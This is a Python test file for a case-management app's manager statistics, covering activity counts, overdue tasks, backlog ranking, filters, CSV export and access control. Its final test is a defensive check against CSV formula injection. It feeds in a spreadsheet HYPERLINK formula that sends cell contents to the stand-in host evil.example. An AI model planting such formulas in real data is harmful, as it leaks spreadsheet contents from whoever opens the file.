"""Managers' figures, checked against cases driven to known stages."""

from datetime import UTC, datetime, timedelta

import time_machine

from .paths import OTHER_REPORT, REPORT
from .steps import assert_error, case_at


def by_element(api):
    response = api.get("/api/stats/activities", "manager")
    assert response.status_code == 200
    return {item["element"]: item for item in response.get_json()["items"]}


def test_activity_counts_follow_the_cases(api):
    case_at(api, "review_setup")
    case_at(api, "review_setup")
    case_at(api, "evaluate_scope")

    figures = by_element(api)

    assert figures["review_setup"]["open"] == 2
    assert figures["evaluate_scope"]["open"] == 1
    assert figures["assess_issue"]["passed"] == 3
    assert figures["review_setup"]["passed"] == 1
    assert figures["assess_issue"]["median_seconds"] >= 0
    assert figures["review_setup"]["overdue"] == 0


def test_open_tasks_of_cases_past_their_resolution_target_are_overdue(api):
    monday_opening = datetime(2024, 5, 6, 8, 0, tzinfo=UTC)  # 9:00 in London
    with time_machine.travel(monday_opening, tick=False) as traveller:
        case_at(api, "review_setup")  # High: resolve in 24 business hours
        traveller.move_to(monday_opening + timedelta(days=2, hours=6))  # Wed 15:00
        in_time = by_element(api)
        traveller.move_to(monday_opening + timedelta(days=2, hours=9))  # Wed 18:00
        late = by_element(api)
    assert in_time["review_setup"]["overdue"] == 0
    assert late["review_setup"]["overdue"] == 1


def test_backlog_ranks_by_priority_then_age_with_reasons(api):
    low, high, critical = _three_cases(api)

    response = api.get("/api/stats/backlog", "manager")

    items = response.get_json()["items"]
    assert [i["case_number"] for i in items] == [critical, high, low]
    assert [i["rank"] for i in items] == [1, 2, 3]
    assert items[0]["reasons"][0] == "priority Critical"
    assert any("Support holds 3 open tasks" in r for r in items[0]["reasons"])


def test_figures_are_for_managers(api):
    for path in ("/api/stats/activities", "/api/stats/backlog"):
        assert_error(api.get(path, "support"), 403, "forbidden")


def _three_cases(api):
    low = api.report({**OTHER_REPORT, "severity": "minor", "accounts_impacted": 3})
    high = api.report(REPORT)
    critical = api.report({**REPORT, "severity": "catastrophic"})
    for number in (low, high, critical):
        response = api.complete(number, "assess_issue", {"aggregation_related": True})
        assert response.status_code == 200
    return low, high, critical


def test_backlog_filters_keep_each_cases_rank(api):
    low, high, critical = _three_cases(api)
    firm = OTHER_REPORT["firm"].replace(" ", "%20")

    items = api.get(f"/api/stats/backlog?firm={firm}", "manager").get_json()["items"]
    by_priority = api.get("/api/stats/backlog?priority=High", "manager").get_json()

    assert [(i["case_number"], i["rank"]) for i in items] == [(low, 3)]
    assert [i["case_number"] for i in by_priority["items"]] == [high]
    lane = api.get("/api/stats/backlog?lane=Support", "manager").get_json()["items"]
    assert len(lane) == 3


def test_backlog_page_shows_reasons_and_exports_csv(app, api):
    from .test_pages import Browser

    low, high, critical = _three_cases(api)
    browser = Browser(app)
    browser.sign_in("manager")

    page = browser.get("/manage/backlog?priority=Critical").get_data(as_text=True)
    csv_text = browser.get("/manage/backlog?format=csv").get_data(as_text=True)
    assert csv_text.startswith("\ufeff")  # spreadsheets then read it as UTF-8
    csv_text = csv_text.removeprefix("\ufeff")

    assert critical in page and low not in page
    assert "priority Critical" in page
    lines = csv_text.strip().splitlines()
    assert lines[0].startswith("rank,case_number,priority")
    assert [line.split(",")[1] for line in lines[1:]] == [critical, high, low]


def test_backlog_page_is_for_managers(app, api):
    from .test_pages import Browser

    browser = Browser(app)
    browser.sign_in("support")
    assert browser.get("/manage/backlog").status_code == 403


def test_unassessed_case_ranks_by_the_priority_its_report_implies(api):
    minor = case_at(api, "review_setup", report={**REPORT, "severity": "minor"})
    catastrophic = api.report({**OTHER_REPORT, "severity": "catastrophic"})

    rows = api.get("/api/stats/backlog", "manager").get_json()["items"]
    order = [row["case_number"] for row in rows]

    assert order.index(catastrophic) < order.index(minor)
    reasons = rows[order.index(catastrophic)]["reasons"]
    assert reasons[0] == "priority not set yet; ranked as Critical, from the report"


def test_backlog_csv_never_hands_a_spreadsheet_a_formula(app, api):
    import csv
    import io

    from .test_pages import Browser

    trap = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    number = api.report({**REPORT, "summary": trap})
    browser = Browser(app)
    browser.sign_in("manager")

    text = browser.get("/manage/backlog?format=csv").get_data(as_text=True)[1:]

    rows = {row["case_number"]: row for row in csv.DictReader(io.StringIO(text))}
    assert rows[number]["summary"] == "'" + trap
    assert rows[number]["plus_ones"] == "0"
